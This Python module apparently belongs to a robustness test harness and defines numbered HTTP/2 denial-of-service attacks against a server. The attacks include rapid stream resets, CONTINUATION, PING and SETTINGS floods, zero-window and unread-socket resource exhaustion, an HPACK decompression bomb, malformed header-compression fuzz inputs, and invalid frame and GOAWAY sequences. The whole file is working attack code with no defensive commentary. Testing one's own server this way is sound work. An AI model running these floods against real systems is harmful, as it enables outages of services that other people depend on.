"""Attacks by frames: floods, resets, header compression, windows."""
import random

from options import args
from wire import *
from world import *


@attack(1)
def rapid_reset(w):
    def items(c):
        for _ in range(100000):
            s = c.next()
            yield request(s, end=True) + reset(s)
    w.flood(items)


@attack(2)
def made_you_reset(w):
    """Frames that make the server reset the stream itself."""
    def items(c):
        for i in range(100000):
            s = c.next()
            yield request(s, end=i % 4 == 1) + [window(s, 0), frame(DATA, 0, s, b"late"), window(s, BIG) * 2,
                                                frame(PRIORITY, 0, s, u32(s) + b"\x10")][i % 4]
    w.flood(items, 1)


@attack(3)
def continuation_empty(w):
    def items(c):
        s = c.next()
        yield frame(HEADERS, 0, s, literal(":method", "POST"))
        for _ in range(200000):
            yield frame(CONTINUATION, 0, s)
    w.flood(items)


@attack(3)
def continuation_big(w):
    def items(c):
        s = c.next()
        yield frame(HEADERS, 0, s, literal(":method", "POST"))
        for i in range(8000):
            yield frame(CONTINUATION, 0, s, literal("x-%d" % i, "a" * 16000))
    w.flood(items, 1)


@attack(4)
def ping_flood(w):
    w.flood(lambda c: (frame(PING, 0, 0, b"12345678") for _ in range(500000)), 512)


@attack(4)
def ping_flood_unread(w):
    w.flood(lambda c: (frame(PING, 0, 0, b"12345678") for _ in range(2000000)), 512, read=False, small_buffer=True)


@attack(5)
def settings_flood(w):
    w.flood(lambda c: (settings((4, 65535)) for _ in range(500000)), 512)


@attack(5)
def settings_flood_unread(w):
    w.flood(lambda c: (settings((4, 65535)) for _ in range(2000000)), 512, read=False, small_buffer=True)


@attack(6)
def empty_data(w):
    def items(c):
        s = c.next()
        yield request(s)
        for _ in range(500000):
            yield frame(DATA, 0, s)
    w.flood(items, 256)


@attack(6)
def empty_headers(w):
    """HEADERS without a field, as requests and as trailers."""
    def items(c):
        for _ in range(50000):
            s = c.next()
            yield frame(HEADERS, END_HEADERS, s) + request(c.next()) + frame(HEADERS, END_HEADERS, c.stream)
    w.flood(items)


def dribble(w, piece, cost):
    """An honest call after another, its message in DATA frames of one byte."""
    body = message(text("x" * 2000))

    def items(c):
        for _ in range(10000):
            s = c.next()
            with c.changed:
                if not c.changed.wait_for(lambda: c.windows[0] > cost * len(body) or c.ended, 2):
                    return
                c.windows[0] -= cost * len(body)
            yield request(s) + b"".join(piece(s, body[k:k + 1]) for k in range(len(body))) + frame(DATA, END_STREAM, s)
    w.flood(items, 1)


@attack(7)
def tiny_data(w):
    dribble(w, lambda s, byte: frame(DATA, 0, s, byte), 1)


@attack(7)
def padded_data(w):
    """The same with 20 bytes of padding in each frame."""
    dribble(w, lambda s, byte: frame(DATA, PADDED, s, b"\x14" + byte + bytes(20)), 22)


@attack(8)
def priority_churn(w):
    w.flood(lambda c: (frame(PRIORITY, 0, 2 * i + 1, u32(2 * (i // 2)) + b"\x10") for i in range(500000)), 256)


@attack(8)
def window_update_churn(w):
    def items(c):
        s = c.next()
        yield request(s)
        for i in range(500000):
            yield window(0 if i % 2 else s, 1)
    w.flood(items, 256)


def greedy(c, count):
    """Many calls with large answers."""
    for _ in range(count):
        s = c.next()
        if args.http:
            yield request(s, end=True)
        else:
            yield request(s, more=[("repeat", "1000000")], method="ServerStreamingEcho") + \
                frame(DATA, END_STREAM, s, message(text("y" * 600)))


@attack(9, "slow")
def unread_answers(w):
    """Windows wide open, the socket never read."""
    def make():
        c = w.open(begin=settings((4, BIG)) + window(0, BIG - 65535), read=False, small_buffer=True)
        c.send(b"".join(greedy(c, 90)))
        return c
    w.hold([make] * 10, args.hold)


@attack(10, "slow")
def zero_window(w):
    def make():
        c = w.open(begin=settings((4, 0)))
        c.send(b"".join(greedy(c, 90)))
        return c
    w.hold([make] * 20, args.hold)


@attack(11)
def hpack_bomb(w):
    """4,000 references to a field of 4,000 bytes: 16 MB decoded from 4 KB."""
    def items(c):
        yield headers(c.next(), block([(":method", "POST"), (":scheme", "http"), (":path", "/x"), (":authority", "x")]) +
                      literal("x", "a" * 4000, 0x40))
        for _ in range(3000):
            yield headers(c.next(), b"\xbe" * 4000)
    w.flood(items, 1)


@attack(12)
def hpack_malformed(w):
    good = block([(":method", "POST"), (":scheme", "http"), (":path", "/x"), (":authority", "x")])
    bad = [b"\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\x7f", b"\x80", b"\xff\x80\x01", b"\x3f\xff\xff\xff\xff\x0f",
           good + b"\x3f\xe1\x3f", b"\x00\x7f\xff\xff\xff\xff\x0f", b"\x00\x01x\x85\xff\xff\xff\xff\xff",
           b"\x00\x81\xff\x00", b"\x00\x01x\x84\xff\xff\xff\xfc", b"\x00\x05ab", b"\x40", b"\x7f", b"\xbe", b"\x00\x00\x00",
           b"\x3f\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\x01" + good]
    chance = random.Random(1)
    bad += [bytes(chance.randrange(256) for _ in range(chance.randrange(1, 60))) for _ in range(150)]
    w.each([headers(1, b) for b in bad], 0.02)


@attack(13)
def unknown_frames(w):
    odd = [frame(10, 0, 0, b"\0\0"), frame(10, 0, 1, b"\0\3abch2=\":1\""), frame(12, 0, 0, b"\0\1x"), frame(16, 0, 0, b"u=1"),
           frame(0xFA, 0xFF, 7, b"z" * 100), frame(PUSH, END_HEADERS, 1, u32(2) + literal("a", "b")),
           frame(SETTINGS, 0, 0, b"12345"), frame(SETTINGS, ACK, 0, b"123456"), frame(SETTINGS, 0, 1), frame(PING, 0, 0, b"1234567"),
           frame(PING, 0, 1, b"12345678"), frame(RST, 0, 1, b"123"), frame(RST, 0, 0, u32(8)), frame(RST, 0, 99, u32(8)),
           frame(WINDOW, 0, 0, b"123"), window(0, 0), window(0, BIG) * 2, window(77, 1), frame(DATA, 0, 0, b"x"),
           frame(DATA, 0, 55, b"x"), frame(HEADERS, END_HEADERS, 0, b"\x82"), frame(HEADERS, END_HEADERS, 2, b"\x82"),
           frame(HEADERS, END_HEADERS | PADDED, 1, b"\xff\x82"), frame(HEADERS, END_HEADERS | 0x20, 1, b"\0"),
           frame(CONTINUATION, END_HEADERS, 1, b"\x82"), frame(DATA, PADDED, 1, b""), frame(0, 0, 1, b"x" * 16385),
           frame(HEADERS, 0, 1, b"\x82") + frame(PING, 0, 0, b"12345678"), b"\xff" * 9, b"\0" * 900,
           settings((4, 1 << 31)), settings((5, 100)), settings((5, 1 << 24)), settings((2, 7)), settings((99, 7)),
           settings(*((3, i) for i in range(2000)))]
    w.each(odd + [request(1) + o for o in odd], 0.05)


@attack(14)
def goaway_sequences(w):
    def goaway(last, code=0, more=b""):
        return frame(GOAWAY, 0, 0, u32(last) + u32(code) + more)
    w.each([goaway(0), goaway(0) * 2, goaway(BIG) + goaway(0) + goaway(5), goaway(0) + request(1, end=True), goaway(3, 0xFFFFFFFF),
            request(1) + goaway(0) + frame(DATA, END_STREAM, 1, message(text("x"))), goaway(1, 11, b"z" * 16000),
            frame(GOAWAY, 0, 0, b"123"), frame(GOAWAY, 0, 5, u32(0) * 2), goaway(0) + settings() + frame(PING, 0, 0, b"12345678"),
            request(1) + goaway(BIG, 2) + reset(1) + goaway(0), goaway(4) * 200] * 3, 0.1)


@attack(30)
def label_flood(w):
    """A new method, service and header name in each call."""
    def items(c):
        for _ in range(50000):
            s = c.next()
            yield request(s, "/svc.%d/Method%d" % (s, s), [("x-label-%d" % s, "v")], True)
    w.flood(items)
